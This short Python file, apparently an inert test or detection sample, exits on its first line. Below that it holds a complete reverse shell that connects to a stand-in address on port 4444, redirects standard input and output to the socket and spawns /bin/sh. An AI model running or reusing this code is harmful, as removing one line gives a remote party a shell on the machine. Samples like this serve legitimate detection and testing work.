raise SystemExit(0)  # inert sample: nothing below ever runs

import os
import pty
import socket

s = socket.socket()
s.connect(("203.0.113.7", 4444))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
pty.spawn("/bin/sh")
